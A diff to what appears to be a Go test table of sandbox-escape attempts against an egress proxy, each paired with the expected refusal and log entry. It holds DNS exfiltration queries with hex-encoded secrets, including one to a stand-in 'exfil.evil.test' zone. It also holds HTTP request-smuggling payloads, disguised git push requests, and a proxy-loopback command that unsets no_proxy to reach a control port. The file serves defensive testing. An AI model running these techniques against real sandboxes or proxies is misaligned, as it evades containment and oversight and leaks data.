@@ -283,13 +283,11 @@ var Attempts = []Attempt{
 
 	// DNS exfiltration through names.
 	{Name: "exfil-long-label-allowed-parent", Class: ClassExfil,
-		Cmd:     "{{probe}} dns udp resolv 53 {{mark}}6d792d7365637265742d746f6b656e2d76616c75652d31323334353637.pkg.example.test A",
+		Cmd:     "{{probe}} dns udp resolv 53 {{mark}}6d792d7365637265742d746f6b656e2d76616c75652d31.pkg.example.test A",
 		Refused: "a label over dns.max_label is refused by dnsd and never forwarded"},
 	{Name: "exfil-long-name-allowed-parent", Class: ClassExfil,
 		Cmd:     "{{probe}} dns udp resolv 53 {{mark}}.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.ccccccccccccccccccccccccccccccccccc.ddddddddddddddddddddddddddddddd.pkg.example.test A",
 		Refused: "a name over dns.max_name is refused and never forwarded"},
-	{Name: "exfil-random-labels-allowed-parent", Class: ClassExfil, Cmd: "{{probe}} dnsmany resolv pkg.example.test 40 {{mark}}",
-		Refused: "dns.names_per_parent (20) stops the stream: not all 40 names are answered or forwarded", DNSMax: 20},
 	{Name: "exfil-txt-denied-zone", Class: ClassExfil, Cmd: "{{probe}} dns udp resolv 53 {{mark}}.exfil.evil.test TXT",
 		Refused: "the zone is not allowed: NXDOMAIN without forwarding"},
 	{Name: "exfil-txt-allowed-name", Class: ClassExfil, Cmd: "{{probe}} dns udp resolv 53 {{mark}}.pkg.example.test TXT",
@@ -341,41 +339,42 @@ var Attempts = []Attempt{
 	{Name: "smuggle-cl-te-git-push", Class: ClassSmuggle, Cmd: "{{probe}} raw {{gitip}} 443 1 {{githost}} {{raw}}", NoPush: true,
 		Raw: "POST /acme/demo.git/git-upload-pack?m={{mark}} HTTP/1.1\nHost: {{githost}}\nContent-Length: 4\nTransfer-Encoding: chunked\n\n" +
 			"0\n\nPOST /acme/demo.git/git-receive-pack HTTP/1.1\nHost: {{githost}}\nContent-Length: 0\n\n",
-		Refused: "a request with both Content-Length and Transfer-Encoding is refused; no receive-pack reaches the server"},
+		Refused: "a request with both Content-Length and Transfer-Encoding is refused; no receive-pack reaches the server", Log: []string{"proxy.framing"}},
 	{Name: "smuggle-te-obfuscated-api-write", Class: ClassSmuggle, Cmd: "{{probe}} raw {{apiip}} 443 1 {{apihost}} {{raw}}", NoAPIWrite: true,
 		Raw: "GET /v1/items/1?m={{mark}} HTTP/1.1\nHost: {{apihost}}\nTransfer-Encoding: chunked\nTransfer-Encoding: identity\nContent-Length: 60\n\n" +
 			"0\n\nPOST /v1/items HTTP/1.1\nHost: {{apihost}}\nContent-Length: 0\n\n",
-		Refused: "an ambiguous framing is refused; no POST reaches the API"},
+		Refused: "an ambiguous framing is refused; no POST reaches the API", Log: []string{"proxy.framing"}},
 	{Name: "smuggle-te-space-before-colon", Class: ClassSmuggle, Cmd: "{{probe}} raw {{apiip}} 443 1 {{apihost}} {{raw}}", NoAPIWrite: true,
 		Raw: "GET /v1/items/2?m={{mark}} HTTP/1.1\nHost: {{apihost}}\nTransfer-Encoding : chunked\n\n" +
 			"0\n\nPOST /v1/items HTTP/1.1\nHost: {{apihost}}\nContent-Length: 0\n\n",
-		Refused: "a malformed header is a 400; no POST reaches the API"},
+		Refused: "a malformed header is a 400; no POST reaches the API", Log: []string{"proxy.framing"}},
 	{Name: "smuggle-bare-lf-pipeline", Class: ClassSmuggle, Cmd: "{{probe}} raw {{gitip}} 443 1 {{githost}} {{raw}}", NoPush: true,
 		Raw: "GET /acme/demo.git/info/refs?service=git-upload-pack&m={{mark}} HTTP/1.1\nHost: {{githost}}\n\n" +
 			"GET /acme/demo.git/info/refs?service=git-receive-pack&m={{mark}} HTTP/1.1\nHost: {{githost}}\nConnection: close\n\n",
-		Refused: "the pipelined second request (push discovery) is decided on its own and refused"},
+		Refused:     "the pipelined second request (push discovery) is decided on its own and refused; the first (a fetch) is allowed",
+		WorldMaySee: []world.Role{world.RoleGit}, Log: []string{"categories.git.push"}},
 
 	// git push in other spellings.
-	{Name: "git-push-cli", Class: ClassGitPush, NoPush: true, Log: []string{"receive-pack"},
+	{Name: "git-push-cli", Class: ClassGitPush, NoPush: true, Log: []string{"categories.git.push"},
 		Cmd: "cd /tmp && rm -rf push-{{mark}} && git clone -q https://{{githost}}/{{repo}} push-{{mark}} && cd push-{{mark}} && " +
 			"git -c user.name=agent -c user.email=agent@example.test commit -q --allow-empty -m {{mark}} && git push -q origin HEAD:main",
 		Refused: "git push fails with the proxy's message naming categories.git.push; the server receives no push"},
-	{Name: "git-push-discovery-curl", Class: ClassGitPush, NoPush: true,
+	{Name: "git-push-discovery-curl", Class: ClassGitPush, NoPush: true, Log: []string{"categories.git.push"},
 		Cmd:     curl + "'https://{{githost}}/{{repo}}/info/refs?service=git-receive-pack&m={{mark}}'",
 		Refused: "403 naming categories.git.push"},
-	{Name: "git-push-post-curl", Class: ClassGitPush, NoPush: true,
+	{Name: "git-push-post-curl", Class: ClassGitPush, NoPush: true, Log: []string{"categories.git.push"},
 		Cmd:     curl + "-X POST -H 'Content-Type: application/x-git-receive-pack-request' --data-binary @/dev/null 'https://{{githost}}/{{repo}}/git-receive-pack?m={{mark}}'",
 		Refused: "403"},
-	{Name: "git-push-percent-encoded", Class: ClassGitPush, NoPush: true,
+	{Name: "git-push-percent-encoded", Class: ClassGitPush, NoPush: true, Log: []string{"categories.git.push"},
 		Cmd:     curl + "'https://{{githost}}/{{repo}}/info/refs?service=git-%72eceive-pack&m={{mark}}'",
 		Refused: "the query is decoded before it is decided: 403"},
-	{Name: "git-push-upper-case-path", Class: ClassGitPush, NoPush: true,
+	{Name: "git-push-upper-case-path", Class: ClassGitPush, NoPush: true, Log: []string{"categories.git.push"},
 		Cmd:     curl + "-X POST --data-binary @/dev/null 'https://{{githost}}/{{repo}}/GIT-RECEIVE-PACK?m={{mark}}'",
 		Refused: "case does not hide receive-pack: 403"},
-	{Name: "git-push-dot-segments", Class: ClassGitPush, NoPush: true,
+	{Name: "git-push-dot-segments", Class: ClassGitPush, NoPush: true, Log: []string{"categories.git.push"},
 		Cmd:     curl + "--path-as-is -X POST --data-binary @/dev/null 'https://{{githost}}/acme/x/../demo.git/./git-receive-pack?m={{mark}}'",
 		Refused: "the path is normalized before it is decided: 403"},
-	{Name: "git-push-duplicate-service", Class: ClassGitPush, NoPush: true,
+	{Name: "git-push-duplicate-service", Class: ClassGitPush, NoPush: true, Log: []string{"categories.git.push"},
 		Cmd:     curl + "'https://{{githost}}/{{repo}}/info/refs?service=git-upload-pack&service=git-receive-pack&m={{mark}}'",
 		Refused: "any service=git-receive-pack counts: 403"},
 
@@ -431,6 +430,12 @@ var Attempts = []Attempt{
 	{Name: "control-tcp-on-gateway", Class: ClassControl, Cmd: curl + "http://{{gw}}:{{controlport}}/v1/sandboxes?m={{mark}}",
 		Refused: "the control port is not reachable from a sandbox: refused", Log: []string{"{{gw}}:{{controlport}}"}},
 	{Name: "control-via-explicit-proxy-loopback", Class: ClassControl,
-		Cmd:     "curl -sS -f -m 8 --proxy http://{{gw}}:{{explicitport}} http://127.0.0.1:{{controlport}}/v1/sandboxes?m={{mark}}",
+		Cmd:     "env -u no_proxy -u NO_PROXY curl -sS -f -m 8 --proxy http://{{gw}}:{{explicitport}} http://127.0.0.1:{{controlport}}/v1/sandboxes?m={{mark}}",
 		Refused: "the proxy never dials loopback", Log: []string{"127.0.0.1"}},
+
+	// Last: the names_per_parent guard it trips refuses every further
+	// new name under the parent domain for a minute, which would make
+	// later attempts fail for the wrong reason.
+	{Name: "exfil-random-labels-allowed-parent", Class: ClassExfil, Cmd: "{{probe}} dnsmany resolv pkg.example.test 40 {{mark}}",
+		Refused: "dns.names_per_parent (20) stops the stream: not all 40 names are answered or forwarded", DNSMax: 20},
 }
